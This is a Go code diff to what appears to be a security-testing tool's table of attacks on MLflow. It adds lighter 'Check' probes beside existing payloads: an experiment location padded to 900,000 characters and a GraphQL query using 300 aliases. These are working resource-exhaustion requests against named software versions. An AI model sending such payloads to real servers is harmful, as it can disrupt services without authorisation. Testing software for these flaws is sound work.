@@ -19,6 +19,7 @@ var mlflowRequests = []Attack{
 		Works: []string{"2.9.2", "2.8.0"},
 		Steps: []Step{experimentAt("s3://bucket/" + strings.Repeat("y", 900_000))},
 		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get?experiment_id=${exp}"), Shows: strings.Repeat("y", 800_000)},
+		Check: locationCheck("s3://bucket/" + strings.Repeat("y", 900_000)),
 	},
 	{
 		ID:    "mlflow/graphql-aliases",
@@ -27,6 +28,10 @@ var mlflowRequests = []Attack{
 		Works: []string{"2.16.2"},
 		Steps: []Step{experiment(), newRun(), {Request: "POST /graphql\n\n" + `{"query": "query { ` + aliases(300) + `}"}`}},
 		Proof: Proof{Answer: `"a299":{`},
+		Check: &Check{
+			Steps: []Step{post("/graphql", `{"query": "query { `+names(300)+`}"}`)},
+			Proof: Proof{Answer: `"a299":`},
+		},
 	},
 	{
 		ID:    "mlflow/graphql-others",
@@ -71,6 +76,15 @@ func aliases(n int) string {
 		b.WriteString("a")
 		b.WriteString(itoa(i))
 		b.WriteString(`: mlflowGetRun(input: {runId: \"${run}\"}) { run { info { runId } } } `)
+	}
+	return b.String()
+}
+
+// names asks for the type's name, which every GraphQL server knows, under n names.
+func names(n int) string {
+	var b strings.Builder
+	for i := range n {
+		b.WriteString("a" + itoa(i) + ": __typename ")
 	}
 	return b.String()
 }
